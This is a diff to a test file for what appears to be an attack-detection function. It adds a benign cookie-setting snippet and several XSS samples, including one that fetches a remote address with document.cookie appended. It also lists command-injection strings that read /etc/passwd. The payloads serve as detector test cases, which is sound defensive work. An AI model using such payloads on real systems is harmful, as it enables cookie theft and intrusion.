@@ -36,6 +36,10 @@ test.each([
   ['what such a line is told with by default', '%5p [acme,%X{traceId:-},%X{spanId:-}]'],
   ['the parameter of a type', 'List <java.lang.String> names'],
   ['a condition over lines', 'if (!(\n  Tables &&\n  Tables.name === shown\n)) {'],
+  [
+    'a program that sets a cookie',
+    `keep: (name, value) => {\n  const end = inDays(9);\n  document.cookie = name + '=' + value + end;\n},\ndrop: (name) => {\n  document.cookie = \`\${name}=;max-age=0\`;\n},`,
+  ],
   ['a script that looks for its shell', '(PATH=/bin; FPATH=$PATH; sh -c :) >/dev/null 2>&1 ||\n  SEPARATOR=none'],
 ])('%s is no attack', (_, line) => {
   expect(typesIn(line)).toEqual([]);
@@ -50,6 +54,10 @@ test.each([
   ['xss', '" ononclickclick=alert(1)'],
   ['xss', '" onerronerroror=alert(1) '],
   ['xss', '" onTableClick=alert(document.domain) '],
+  ['xss', '},\ndocument.cookie = a + document.cookie,\n{'],
+  ['xss', `},\ndocument.cookie = \`\${a}\${fetch('//203.0.113.9/' + document.cookie)}\`;\n{`],
+  ['xss', '},\ndocument.cookie = a + alert(1);\n{'],
+  ['xss', "'-(document.cookie = a + 1)-'"],
   ['command_injection', 'cat$IFS/etc/passwd'],
   ['command_injection', 'x;a=1;ls$IFS-la'],
   ['command_injection', '%x{id}'],
